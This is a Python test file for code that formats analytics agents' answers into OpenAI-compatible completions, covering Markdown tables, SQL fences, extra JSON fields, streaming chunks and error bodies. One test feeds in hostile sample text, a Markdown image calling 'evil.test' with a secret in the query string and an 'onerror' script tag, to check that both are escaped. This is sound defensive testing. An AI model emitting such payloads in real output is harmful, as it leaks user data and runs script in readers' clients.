"""The OpenAI wire format of the agents' answers: Markdown, the ``kubeai`` field, chunks and errors, checked against
the official client's own types."""

from __future__ import annotations

import dataclasses
import re
from typing import Any

import pandas as pd
from openai.types import Model
from openai.types.chat import ChatCompletion, ChatCompletionChunk

from agents.metrics import MetricsResult
from agents.planner import PlanRun, TaskReport
from app.api.openai_format import (
    chunk,
    completion,
    content_pieces,
    error_body,
    message_text,
    metrics_extra,
    metrics_markdown,
    plan_extra,
    plan_markdown,
    usage,
)
from graphs.planner import PlannedTask

SQL = "SELECT region, SUM(paid_amount) AS gmv FROM orders GROUP BY 1"


def result(**changes: Any) -> MetricsResult:
    base = MetricsResult(
        thread_id="t-1",
        question="GMV by region?",
        standalone_question="GMV by region?",
        language="en",
        metrics=("gmv",),
        dimensions=("region",),
        query=None,
        path="sql",
        sql=SQL,
        dialect="duckdb",
        columns=("region", "gmv"),
        rows=(("华东", 1234.5), ("华北", 0.25)),
        truncated=False,
        chart={"data": [{"type": "bar", "x": ["华东", "华北"], "y": [1234.5, 0.25]}], "layout": {}},
        chart_kind="bar",
        answer="East China leads with 1,234.50.",
        abstained=False,
        reason="",
        definitions=(),
        tokens={"generate": {"prompt": 100, "completion": 20}, "answer": {"prompt": 50, "completion": 5}},
    )
    return dataclasses.replace(base, **changes)


def test_a_metrics_answer_is_the_text_a_table_a_chart_note_and_the_sql() -> None:
    text = metrics_markdown(result())
    answer, table, chart, sql = text.split("\n\n")
    assert answer == "East China leads with 1,234.50."
    assert table.splitlines() == ["| region | gmv |", "|---|---:|", "| 华东 | 1,234.50 |", "| 华北 | 0.25 |"]
    assert chart == "Chart (bar): its Plotly spec is in the response's `kubeai.chart` field."
    assert sql == f"```sql\n{SQL}\n```"


def test_long_tables_are_cut_and_say_how_many_rows_are_left_in_the_answers_language() -> None:
    rows = tuple((f"city {i}", i) for i in range(25))
    english = metrics_markdown(result(rows=rows, chart=None), max_rows=20)
    chinese = metrics_markdown(result(rows=rows, chart=None, language="zh", truncated=True), max_rows=20)
    assert "| city 19 | 19 |" in english and "city 20" not in english
    assert "… 5 more rows in `kubeai.rows`" in english
    assert "…… 另有 5 行，见 `kubeai.rows`" in chinese and "只返回了前 25 行" in chinese


def test_model_and_warehouse_text_is_shown_never_rendered() -> None:
    hostile = result(
        answer="See ![x](http://evil.test/?q=secret) or <img src=x onerror=alert(1)>",
        rows=(("a|b\nc", "<b>bold</b> [link](http://x)"),),
        columns=("name", "note"),
    )
    text = metrics_markdown(hostile)
    prose, table = text.split("\n\n")[:2]
    assert re.findall(r"(?<!\\)[<\[\]]", prose) == [], "no tag, link or image opens in the answer"
    assert prose == r"See !\[x\](http://evil.test/?q=secret) or \<img src=x onerror=alert(1)>"
    cells = re.split(r"(?<!\\)\|", table.splitlines()[2])[1:-1]
    assert cells == [r" a\|b c ", r" \<b\>bold\</b\> \[link\](http://x) "], "each value stays in its cell"


def test_sql_with_backticks_gets_a_longer_fence() -> None:
    text = metrics_markdown(result(sql="SELECT 1 AS ```x```"))
    assert text.endswith("````sql\nSELECT 1 AS ```x```\n````")


def test_sql_awaiting_approval_says_where_to_approve_it_and_shows_it() -> None:
    text = metrics_markdown(result(answer="", rows=(), chart=None, pending_sql=SQL, sql=None))
    note, sql = text.split("\n\n")
    assert "needs approval" in note and "POST /threads/t-1/runs/wait" in note and '"action": "approve"' in note
    assert sql == f"```sql\n{SQL}\n```"
    extra = metrics_extra(result(rows=(), pending_sql=SQL))
    assert extra["__interrupt__"][0]["value"]["sql"] == SQL and extra["pending_sql"] == SQL


def test_an_abstention_is_its_reason_and_an_empty_result_says_so() -> None:
    abstained = metrics_markdown(result(abstained=True, answer="", reason="no metric matches", sql=None, rows=()))
    empty = metrics_markdown(result(rows=(), chart=None, language="zh", answer="没有数据。"))
    assert abstained == "no metric matches"
    assert empty.split("\n\n")[:2] == ["没有数据。", "查询没有返回任何行。"]


def test_the_kubeai_field_carries_the_values_as_json() -> None:
    extra = metrics_extra(result())
    assert extra["assistant"] == "metrics" and extra["thread_id"] == "t-1" and extra["sql"] == SQL
    assert extra["columns"] == ["region", "gmv"] and extra["rows"] == [["华东", 1234.5], ["华北", 0.25]]
    assert extra["chart"]["data"][0]["type"] == "bar" and "__interrupt__" not in extra and "messages" not in extra


def test_a_plan_is_the_answer_and_one_line_per_task() -> None:
    table = pd.DataFrame({"region": ["a"], "gmv": [1.0]})
    run = PlanRun(
        request="Compare regions",
        language="zh",
        tasks=(
            TaskReport(
                task=PlannedTask(id="t1", tool="metric_query", type="metric_query"),
                status="ok",
                text="GMV\nby region",
                table=table,
            ),
            TaskReport(task=PlannedTask(id="t2", tool="summarize", type="summarize"), status="skipped", text=""),
        ),
        answer="华东领先 [t1]。",
        cited=("t1",),
        status="partial",
        attempts=1,
    )
    text = plan_markdown(run)
    assert text.split("\n\n") == [
        r"华东领先 \[t1\]。",
        "**任务**",
        "- `t1` metric_query: ok — GMV by region\n- `t2` summarize: skipped",
    ]
    extra = plan_extra(run)
    assert (
        extra["assistant"] == "planner" and extra["status"] == "partial" and extra["tasks"][0]["rows"] == [["a", 1.0]]
    )


def test_completions_chunks_and_models_parse_as_the_official_types() -> None:
    tokens = usage(result().tokens)
    assert tokens == {"prompt_tokens": 150, "completion_tokens": 25, "total_tokens": 175}
    base: dict[str, Any] = {"completion_id": "chatcmpl-1", "created": 1, "model": "kubeai-metrics"}
    done = ChatCompletion.model_validate(completion(**base, content="hi", extra={"rows": [[1]]}, tokens=tokens))
    assert done.choices[0].message.content == "hi" and done.usage and done.usage.total_tokens == 175
    assert done.model_extra == {"kubeai": {"rows": [[1]]}}
    first = ChatCompletionChunk.model_validate(chunk(**base, delta={"role": "assistant", "content": ""}))
    last = ChatCompletionChunk.model_validate(chunk(**base, finish_reason="stop", extra={"sql": SQL}))
    counted = ChatCompletionChunk.model_validate(chunk(**base, tokens=tokens))
    assert first.choices[0].delta.role == "assistant" and last.choices[0].finish_reason == "stop"
    assert last.model_extra == {"kubeai": {"sql": SQL}} and counted.choices == [] and counted.usage
    assert Model.model_validate({"id": "kubeai-metrics", "object": "model", "created": 1, "owned_by": "kubeai"})


def test_content_goes_out_line_by_line_and_reassembles_exactly() -> None:
    text = metrics_markdown(result())
    pieces = list(content_pieces(text))
    assert len(pieces) == len(text.splitlines()) and "".join(pieces) == text


def test_message_text_and_error_bodies() -> None:
    assert (
        message_text(
            [{"type": "text", "text": "a"}, {"type": "image_url", "image_url": {}}, {"type": "text", "text": "b"}]
        )
        == "a\nb"
    )
    assert message_text(None) == "" and message_text("q") == "q"
    assert error_body(404, "No model 'x'.") == {
        "error": {"message": "No model 'x'.", "type": "invalid_request_error", "param": None, "code": "model_not_found"}
    }
    assert error_body(503, "Down.")["error"]["type"] == "server_error"
    assert error_body(418, "Odd.")["error"] == {
        "message": "Odd.",
        "type": "invalid_request_error",
        "param": None,
        "code": "error",
    }
